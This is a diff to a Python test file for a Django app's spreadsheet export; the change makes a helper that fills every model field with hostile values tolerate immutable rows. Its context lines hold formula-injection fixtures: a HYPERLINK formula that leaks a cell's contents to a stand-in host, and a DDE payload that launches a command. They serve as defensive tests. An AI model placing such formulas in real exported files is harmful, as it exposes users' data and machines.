@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import datetime as dt
 import io
@@ -27,6 +28,7 @@ from leitai.core.spreadsheets import (
     new_workbook,
     workbook_bytes,
 )
+from leitai.rankings.models import ImmutableRowError
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&C5,"点击查看佐证")'
 STARTS = ["=1+2", "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1", "\r=1"]
@@ -215,8 +217,10 @@ def _poison_every_text() -> None:
             updates[field.name] = expression
         if model._meta.label == "auth.User":
             model.objects.update(first_name=updates["first_name"])
-        elif updates and model._meta.app_label != "rankings":  # ranking rows are immutable
-            model.objects.update(**updates)
+        elif updates:
+            # rankings' and honours' rows are never changed
+            with contextlib.suppress(ImmutableRowError):
+                model.objects.update(**updates)
 
 
 @pytest.mark.django_db
